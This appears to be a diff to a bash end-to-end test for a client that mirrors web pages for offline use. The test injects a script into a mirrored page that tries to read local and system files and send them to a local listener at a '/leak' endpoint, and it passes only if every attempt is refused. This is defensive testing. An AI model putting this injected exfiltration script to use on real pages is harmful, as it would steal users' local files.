@@ -1,7 +1,9 @@
 #!/usr/bin/env bash
 # End to end: an online start downloads the documents and mirrors the
 # member's page; with the service stopped, the next start shows the mirrored
-# page and the same group buttons.
+# page and the same group buttons. The mirror came over plain HTTP: a script
+# planted in it may show its logo, but reads no file of the member's and
+# reaches no other program.
 # Usage: offline_mirror.sh CLIENT DEMO_SERVICE ARTIFACT_DIR
 set -euo pipefail
 source "$(dirname "$0")/e2e_lib.sh"
@@ -19,7 +21,51 @@ if ls -A "$folder" | grep -q '\.part$'; then fail "a temporary file was left beh
 kill "$demo_pid"
 wait "$demo_pid" 2>/dev/null || true
 demo_pid=
-capture "$artifacts/offline"
+
+# Another local program, listening where the planted script sends what it reads.
+"$demo" --listen 127.0.0.1 --port 8081 >"$artifacts/listener.log" 2>&1 &
+demo_pid=$!
+wait_for_port 127.0.0.1 8081 10
+# Once every attempt is refused and the logo shows, the page turns green.
+script='<img id="logo" src="images/LOGO_Movei.gif"><script>
+const seen = {};
+const note = (what, how) => {
+  seen[what] = how;
+  if (Object.keys(seen).length === 6 && Object.values(seen).every(v => v === "refused" || v === "shown"))
+    document.body.style.background = "rgb(0,255,0)";
+};
+const send = (what, url) => fetch(url).then(r => r.text())
+  .then(t => fetch("http://127.0.0.1:8081/leak?" + what + "=" + encodeURIComponent(t)))
+  .then(() => note(what, "read"), () => note(what, "refused"));
+send("user", "qvuser.txt");
+send("home", "file://'"$HOME"'/qvestrafolder/qvuser.txt");
+send("etc", "file:///etc/hostname");
+new Image().src = "http://127.0.0.1:8081/beacon";
+try {
+  const socket = new WebSocket("ws://127.0.0.1:8081/socket");
+  socket.onopen = () => note("socket", "open");
+  socket.onerror = () => note("socket", "refused");
+} catch (e) { note("socket", "refused"); }
+fetch("http://127.0.0.1:8081/direct").then(() => note("direct", "read"), () => note("direct", "refused"));
+const logo = document.getElementById("logo");
+const shown = () => note("logo", logo.naturalWidth > 0 ? "shown" : "missing");
+if (logo.complete) shown(); else { logo.onload = shown; logo.onerror = shown; }
+</script>'
+page="$folder/A-12.html"
+awk -v planted="$script" '/<\/body>/ { print planted } { print }' "$page" >"$page.planted"
+mv "$page.planted" "$page"
+capture "$artifacts/offline" --keep-running
+planted_ran() {
+    import -window root "$artifacts/offline/planted.png"
+    local colours
+    colours=$(convert "$artifacts/offline/planted.png" -format %c histogram:info:-)
+    grep -q '#00FF00' <<<"$colours"
+}
+wait_until 15 planted_ran || fail "the planted script did not see every attempt refused and its logo shown"
+if grep -q 'request:' "$artifacts/listener.log"; then
+    fail "the offline page reached another program: $(grep 'request:' "$artifacts/listener.log")"
+fi
+stop_client "$artifacts/offline"
 
 # The group panel, 教材一覧, with its buttons.
 panel=240x180+10+255
